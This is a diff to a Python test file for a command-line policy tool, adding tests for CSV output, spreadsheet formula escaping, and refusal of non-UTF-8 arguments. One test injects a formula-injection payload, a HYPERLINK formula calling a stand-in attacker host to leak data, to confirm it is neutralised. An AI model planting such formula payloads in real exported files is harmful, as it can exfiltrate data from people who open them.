@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -35,9 +37,26 @@ def test_evaluate_formats_and_output_file(runner, cli, workspace):
     result = run(runner, cli, workspace, "evaluate", "--policy", "cost.zero-usage-lines",
                  "--format", "csv", "--output", str(out))
     assert result.exit_code == 0
-    lines = out.read_text().splitlines()
-    assert lines[0].startswith("policy_id,severity,category,resource_type,resource_id")
-    assert [ln.split(",")[4] for ln in lines[1:]] == ["L1"]
+    rows = list(csv.reader(io.StringIO(out.read_text(), newline="")))
+    assert rows[0][:5] == ["policy_id", "severity", "category", "resource_type", "resource_id"]
+    assert [r[4] for r in rows[1:]] == ["L1"]
+
+
+def test_evaluate_csv_cells_cannot_run_as_spreadsheet_formulas(runner, cli, workspace):
+    # C-4: an estate id written as a formula reached the CSV raw; it goes through the one CSV
+    # writer (engine/csvsafe.py) now: a leading ', every text cell quoted.
+    evil = '=HYPERLINK("http://evil.example/?leak","open me")'
+    with (workspace / "estate" / "lines.csv").open("a", newline="", encoding="utf-8") as fh:
+        csv.writer(fh).writerows([[evil, "mobile", "active", "+15551230008", "40", "2024-01-10", "P1", ""],
+                                  ["@SUM(1+1)", "mobile", "active", "+15551230009", "40", "2024-01-10",
+                                   "P1", ""]])
+    run(runner, cli, workspace, "collect", "--as-of", "2026-06-30")
+    result = run(runner, cli, workspace, "evaluate", "--dry-run", "--policy", "cost.zero-usage-lines",
+                 "--format", "csv")
+    assert result.exit_code == 0
+    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
+    assert sorted(r[4] for r in rows[1:]) == ["'" + evil, "'@SUM(1+1)", "L1"]
+    assert f'"\'{evil.replace(chr(34), chr(34) * 2)}"' in result.stdout     # quoted, quotes doubled
 
 
 def test_fail_on_severity_sets_the_exit_code(runner, cli, workspace):
@@ -129,3 +148,24 @@ def test_overrides_for_an_unknown_policy_are_warned_about(runner, cli, workspace
     assert result.exit_code == 0
     assert ("warning: params.cost.zero-usage-line: no such policy. "
             "Did you mean 'cost.zero-usage-lines'?") in result.output
+
+
+@pytest.mark.parametrize("args", [
+    ("findings", "comment", "21", "bad \udced\udca0\udc80", "--actor", "tester"),  # bad \xed\xa0\x80
+    ("findings", "comment", "21", "fine", "--actor", "te\udcffster"),
+    ("policy", "validate", "\udcff.yaml"),
+])
+def test_an_argument_that_is_not_utf8_is_refused_before_any_command_runs(runner, cli, workspace, args):
+    # R-10: the comment reached the history's hash and failed there with a traceback.
+    result = run(runner, cli, workspace, *args)
+    assert result.exit_code == 2
+    assert result.output.startswith("error: an argument is not valid UTF-8 text: '")
+    assert "\\xed\\xa0\\x80'" in result.output or "\\xff" in result.output
+    assert "Traceback" not in result.output
+
+
+def test_an_actor_from_the_environment_that_is_not_utf8_is_refused(runner, cli, workspace):
+    run(runner, cli, workspace, "collect", "--as-of", "2026-06-30")
+    result = run(runner, cli, workspace, "evaluate", env={"DIALTONE_USER": "a\udcffb"})
+    assert result.exit_code == 2
+    assert result.output == "error: $DIALTONE_USER or the login name is not valid UTF-8 text: 'a\\xffb'\n"
